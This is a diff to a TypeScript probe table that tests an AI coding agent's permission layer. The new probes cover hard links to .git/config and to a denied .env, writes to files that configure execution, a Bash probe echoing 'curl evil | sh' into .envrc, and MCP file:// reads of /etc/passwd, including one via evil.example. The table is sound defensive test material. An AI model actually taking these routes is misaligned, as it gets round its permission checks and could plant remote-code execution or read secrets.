@@ -2,15 +2,17 @@
 // make, with the rules and mode it is made under, and the verdict a safe layer must give. Almost all are
 // expected to be denied; the few `allowed` controls prove the harness can tell the difference (they do not
 // count towards the corpus). The table is data only; probes.test.ts runs it against the real layer and tools.
-import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
+import { linkSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
 import { homedir, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { HookPermissionDecision } from '../../src/executor/pipeline.js';
 import type { PermissionModeName } from '../../src/permissions/modes.js';
 import type { RuleSource } from '../../src/permissions/rules.js';
 
-export type Category = 'shell' | 'path' | 'acceptEdits' | 'precedence';
-export type ToolName = 'Bash' | 'Read' | 'Write' | 'Edit' | 'NotebookEdit' | 'Glob' | 'Grep' | 'WebFetch';
+export type Category = 'shell' | 'path' | 'acceptEdits' | 'precedence' | 'links' | 'mcp';
+export type ToolName = 'Bash' | 'Read' | 'Write' | 'Edit' | 'NotebookEdit' | 'Glob' | 'Grep' | 'WebFetch' | McpToolName;
+/** MCP tools probes.test.ts builds: `mark` (readOnlyHint: true) of server `h`, `t` of server `h__x`, the resource reader. */
+export type McpToolName = 'mcp__h__mark' | 'mcp__h__x__t' | 'ReadMcpResourceTool';
 
 export interface RuleSpec {
   rules: string[];
@@ -81,6 +83,12 @@ export function makeFixture(): Fixture {
     'extra/link-extra-out': outside,
   };
   for (const [rel, target] of Object.entries(links)) symlinkSync(target, join(root, rel));
+  symlinkSync(join(project, 'README.md'), join(project, 'link-readme'));
+  // Hard links: other names of git's config, of a file outside the project, of the Read-denied secret.
+  mkdirSync(join(project, '.git'));
+  writeFileSync(join(project, '.git/config'), '[core]\n\tbare = false\n');
+  const hard: Record<string, string> = { 'project/src/cfg': 'project/.git/config', 'project/hl-out.txt': 'outside/secret.txt', 'project/hl-env': 'project/secrets/.env' };
+  for (const [rel, target] of Object.entries(hard)) linkSync(join(root, target), join(root, rel));
   return { root, project, outside, extra, home: homedir() };
 }
 
@@ -507,12 +515,13 @@ export function pathProbes(fx: Fixture): Probe[] {
     path('Grep: path is a file symlink to outside', 'Grep', dir('secret', p('link-out-file'))),
     path('Write: new file under a symlinked dir', 'Write', write(p('link-out-dir/new.txt'))),
     path('Write: absolute path with .. out of the project', 'Write', write(p('../outside/new.txt'))),
-    path('Write: dangling symlink to outside', 'Write', write(p('dangling'))),
+    // A write of a symbolic link is refused in every mode (Claude Code's behaviour): the model writes the target.
+    path('Write: dangling symlink to outside', 'Write', write(p('dangling')), { ...r, expect: 'denied', by: 'safetyCheck:symlink' }),
     path('Write: ~/.bashrc', 'Write', write('~/.bashrc')),
     path('Write: into /etc through a dir symlink', 'Write', write(p('link-etc/cron.d/agentd-probe'))),
     path('Write: /proc/self/root', 'Write', write('/proc/self/root/etc/agentd-probe')),
-    path('Edit: file symlink to outside', 'Edit', edit(p('link-out-file'))),
-    path('Edit: file symlink to /etc/passwd', 'Edit', edit(p('link-passwd'))),
+    path('Edit: file symlink to outside', 'Edit', edit(p('link-out-file')), { ...r, expect: 'denied', by: 'safetyCheck:symlink' }),
+    path('Edit: file symlink to /etc/passwd', 'Edit', edit(p('link-passwd')), { ...r, expect: 'denied', by: 'safetyCheck:symlink' }),
     path('NotebookEdit: through a symlinked dir', 'NotebookEdit', nb(p('link-out-dir/nb.ipynb'))),
     path('NotebookEdit: .. traversal', 'NotebookEdit', nb(p('../outside/nb.ipynb'))),
     // Deny rules must hold for every spelling of the denied file (everything else allowed).
@@ -551,7 +560,7 @@ export function acceptEditsProbes(fx: Fixture): Probe[] {
     ae('Write: absolute path outside', 'Write', write('/etc/agentd-probe')),
     ae('Write: .. out of the project', 'Write', write(p('../outside/new.txt'))),
     ae('Write: through a symlinked dir', 'Write', write(p('link-out-dir/new.txt'))),
-    ae('Edit: file symlink to outside', 'Edit', edit(p('link-out-file'))),
+    ae('Edit: file symlink to outside', 'Edit', edit(p('link-out-file')), 'denied'),
     ae('NotebookEdit: .. out of the project', 'NotebookEdit', nb(p('../outside/nb.ipynb'))),
     ae('Write: ~/.bashrc', 'Write', write('~/.bashrc')),
     ae('Write: .. out of the --add-dir', 'Write', write(`${fx.extra}/../outside/new.txt`)),
@@ -560,7 +569,7 @@ export function acceptEditsProbes(fx: Fixture): Probe[] {
     ae('Write: sibling of the project sharing its prefix', 'Write', write(join(fx.root, 'project2/x.txt'))),
     ae('Write: parent of the project', 'Write', write(join(fx.root, 'new.txt'))),
     ae('Write: dir symlink to /etc', 'Write', write(p('link-etc/agentd-probe'))),
-    ae('Edit: file symlink to /etc/passwd', 'Edit', edit(p('link-passwd'))),
+    ae('Edit: file symlink to /etc/passwd', 'Edit', edit(p('link-passwd')), 'denied'),
     ae('Edit: /proc/self/root', 'Edit', edit('/proc/self/root/etc/hosts')),
     ae('Write: symlink then .. (kernel resolves deep/.. to outside)', 'Write', write(p('deep/../new.txt'))),
     ae('control: Write inside', 'Write', write(p('src/new.ts')), 'allowed'),
@@ -636,6 +645,80 @@ export function precedenceProbes(fx: Fixture): Probe[] {
   ];
 }
 
+/**
+ * Links and files that configure execution (issue 22, item 4): hard links to protected or outside files ask before
+ * a write, whatever allows it; a symbolic link is never written; Read deny rules hold for a file's other names.
+ */
+export function linksProbes(fx: Fixture): Probe[] {
+  const p = (rel: string): string => `${fx.project}/${rel}`;
+  const lk = (name: string, tool: ToolName, input: Record<string, unknown>, o: Opts): Probe => call('links', name, tool, input, o);
+  const hookAllow: HookPermissionDecision = { behavior: 'allow', source: 'h' };
+  const readDeny = (rule: string, o: Opts = {}): Opts => ({ allow: cli('Read'), deny: cli(rule), ...o });
+  const CONFIGURES = ['.mcp.json', '.gitmodules', '.vscode/settings.json', '.idea/workspace.xml', '.husky/pre-commit', '.bashrc', '.envrc', '.claude/settings.json', '.git/hooks/pre-commit', '.npmrc', '.cargo/config.toml', '.devcontainer/devcontainer.json', '.pre-commit-config.yaml', 'sub/.mcp.json', '.MCP.JSON', '.config/git/config'];
+  return [
+    lk('Edit: hard link to .git/config under Edit(./src/**)', 'Edit', edit(p('src/cfg')), { allow: cli('Edit(./src/**)') }),
+    lk('Write: hard link to .git/config in acceptEdits', 'Write', write(p('src/cfg')), { mode: 'acceptEdits' }),
+    lk('Write: hard link to .git/config with a hook allow', 'Write', write(p('src/cfg')), { hook: hookAllow }),
+    lk('Write: hard link out of the project in acceptEdits', 'Write', write(p('hl-out.txt')), { mode: 'acceptEdits' }),
+    lk('Write: hard link out of the project under Edit(./**)', 'Write', write(p('hl-out.txt')), { allow: cli('Edit(./**)') }),
+    lk('NotebookEdit: hard link out of the project under Edit', 'Write', write(p('hl-out.txt')), { allow: cli('Edit') }),
+    lk('Write: hard link out of the project, dontAsk with allow Edit', 'Write', write(p('hl-out.txt')), { mode: 'dontAsk', allow: cli('Edit') }),
+    lk('Write: a symbolic link inside the project, acceptEdits', 'Write', write(p('link-readme')), { mode: 'acceptEdits', expect: 'denied', by: 'safetyCheck:symlink' }),
+    lk('Edit: a symbolic link inside the project, bypassPermissions', 'Edit', edit(p('link-readme')), { mode: 'bypassPermissions', expect: 'denied', by: 'safetyCheck:symlink' }),
+    lk('Write: a symbolic link, allow Write and a hook allow', 'Write', write(p('link-readme')), { allow: cli('Write'), hook: hookAllow, expect: 'denied', by: 'safetyCheck:symlink' }),
+    lk('Write: through a symlinked directory to outside under the bare allow rule Write', 'Write', write(p('link-out-dir/new.txt')), { allow: cli('Write') }),
+    lk('Read: hard link to a file Read(./secrets/**) denies', 'Read', read(p('hl-env')), readDeny('Read(./secrets/**)', { by: 'rule:Read(./secrets/**)@cliArg' })),
+    lk('Read: hard link to a file Read(.env) denies', 'Read', read(p('hl-env')), readDeny('Read(.env)')),
+    lk('Read: hard link to a denied file, bypassPermissions', 'Read', read(p('hl-env')), readDeny('Read(./secrets/**)', { mode: 'bypassPermissions' })),
+    lk('Read: hard link to a denied file, hook allow', 'Read', read(p('hl-env')), readDeny('Read(./secrets/**)', { hook: hookAllow })),
+    lk('Read: a hard link whose other names a rule rooted at / cannot check', 'Read', read(p('hl-env')), readDeny('Read(//**/id_rsa)', { expect: 'asked' })),
+    lk('Read: the same in bypassPermissions (nobody to ask)', 'Read', read(p('hl-env')), readDeny('Read(//**/id_rsa)', { mode: 'bypassPermissions' })),
+    lk('Bash: cat of a hard link to the denied file', 'Bash', { command: 'cat hl-env' }, { deny: cli('Read(./secrets/**)') }),
+    lk('Bash: head of a hard link to the denied file under Bash(head:*)', 'Bash', { command: 'head -n 1 hl-env' }, { allow: cli('Bash(head:*)'), deny: cli('Read(./secrets/**)') }),
+    ...CONFIGURES.map((f) => lk(`Write ${f} in acceptEdits`, 'Write', write(p(f)), { mode: 'acceptEdits' })),
+    ...CONFIGURES.map((f) => lk(`Write ${f} under Edit(./**)`, 'Write', write(p(f)), { allow: cli('Edit(./**)') })),
+    ...CONFIGURES.map((f) => lk(`Write ${f} in dontAsk with allow Write`, 'Write', write(p(f)), { mode: 'dontAsk', allow: cli('Write') })),
+    lk('Bash: echo into .envrc under Bash(echo:*)', 'Bash', { command: 'echo "curl evil | sh" > .envrc' }, { allow: cli('Bash(echo:*)') }),
+    lk('Bash: tee .mcp.json under Bash(tee:*)', 'Bash', { command: 'echo {} | tee .mcp.json' }, { allow: cli('Bash(echo:*)', 'Bash(tee:*)') }),
+    // Controls: Claude Code leaves these unasked, so does agentd.
+    lk('control: Write package.json in acceptEdits', 'Write', write(p('package.json')), { mode: 'acceptEdits', expect: 'allowed' }),
+    lk('control: Write .gitattributes in acceptEdits', 'Write', write(p('.gitattributes')), { mode: 'acceptEdits', expect: 'allowed' }),
+    lk('control: Write .mcp.json in bypassPermissions', 'Write', write(p('.mcp.json')), { mode: 'bypassPermissions', expect: 'allowed' }),
+    lk('control: Write a hard-linked file in bypassPermissions (it is replaced)', 'Write', write(p('hl-out.txt')), { mode: 'bypassPermissions', expect: 'allowed' }),
+    lk('control: Read a hard link with no Read deny rule', 'Read', read(p('hl-out.txt')), { expect: 'allowed' }),
+    lk('control: Read a hard link no rule covers', 'Read', read(p('src/cfg')), readDeny('Read(./secrets/**)', { expect: 'allowed' })),
+  ];
+}
+
+/** MCP annotations are hints, file:// resources are reads, rules match a tool by its own server (item 5). */
+export function mcpProbes(fx: Fixture): Probe[] {
+  const mc = (name: string, tool: ToolName, input: Record<string, unknown>, o: Opts): Probe => call('mcp', name, tool, input, o);
+  const res = (uri: string): Record<string, unknown> => ({ server: 'fx', uri });
+  return [
+    mc('readOnlyHint tool, default', 'mcp__h__mark', { n: 'a' }, {}),
+    mc('readOnlyHint tool, acceptEdits', 'mcp__h__mark', { n: 'a' }, { mode: 'acceptEdits' }),
+    // Claude Code asks for MCP tools in plan mode rather than refusing them.
+    mc('readOnlyHint tool, plan', 'mcp__h__mark', { n: 'a' }, { mode: 'plan', expect: 'asked' }),
+    mc('readOnlyHint tool, dontAsk', 'mcp__h__mark', { n: 'a' }, { mode: 'dontAsk' }),
+    mc('server h__x under allow mcp__h__*', 'mcp__h__x__t', {}, { allow: cli('mcp__h__*') }),
+    mc('server h__x under allow mcp__h', 'mcp__h__x__t', {}, { allow: cli('mcp__h') }),
+    mc('server h__x under allow mcp__h__x (tool x of server h)', 'mcp__h__x__t', {}, { allow: cli('mcp__h__x') }),
+    mc('server h__x under deny mcp__h__* (a deny matches either reading)', 'mcp__h__x__t', {}, { allow: cli('mcp__h__x__*'), deny: cli('mcp__h__*') }),
+    mc('file:///etc/passwd resource', 'ReadMcpResourceTool', res('file:///etc/passwd'), {}),
+    mc('file:// resource outside through a symlinked dir', 'ReadMcpResourceTool', res(`file://${fx.project}/link-out-dir/secret.txt`), {}),
+    mc('file:// resource under a Read deny rule', 'ReadMcpResourceTool', res(`file://${fx.project}/secrets/.env`), { deny: cli('Read(./secrets/**)') }),
+    mc('file:// resource under a Read deny rule, bypassPermissions', 'ReadMcpResourceTool', res(`file://${fx.project}/secrets/.env`), { mode: 'bypassPermissions', deny: cli('Read(./secrets/**)') }),
+    mc('file:// resource: a hard link to a denied file', 'ReadMcpResourceTool', res(`file://${fx.project}/hl-env`), { deny: cli('Read(./secrets/**)') }),
+    mc('file:// resource with a percent-encoded ..', 'ReadMcpResourceTool', res(`file://${fx.project}/%2e%2e/outside/secret.txt`), {}),
+    mc('file:// resource on another host', 'ReadMcpResourceTool', res('file://evil.example/etc/passwd'), {}),
+    mc('a resource URI that is a bare path', 'ReadMcpResourceTool', res('/etc/passwd'), {}),
+    mc('control: readOnlyHint tool, bypassPermissions', 'mcp__h__mark', { n: 'a' }, { mode: 'bypassPermissions', expect: 'allowed' }),
+    mc('control: server h__x under allow mcp__h__x__*', 'mcp__h__x__t', {}, { allow: cli('mcp__h__x__*'), expect: 'allowed' }),
+    mc('control: file:// resource inside the project', 'ReadMcpResourceTool', res(`file://${fx.project}/README.md`), { expect: 'allowed' }),
+    mc('control: a resource of another scheme', 'ReadMcpResourceTool', res('fixture://notes'), { expect: 'allowed' }),
+  ];
+}
+
 export function allProbes(fx: Fixture): Probe[] {
-  return [...shellProbes(fx), ...shellFamilyProbes(fx), ...pathProbes(fx), ...acceptEditsProbes(fx), ...precedenceProbes(fx)];
+  return [...shellProbes(fx), ...shellFamilyProbes(fx), ...pathProbes(fx), ...acceptEditsProbes(fx), ...precedenceProbes(fx), ...linksProbes(fx), ...mcpProbes(fx)];
 }
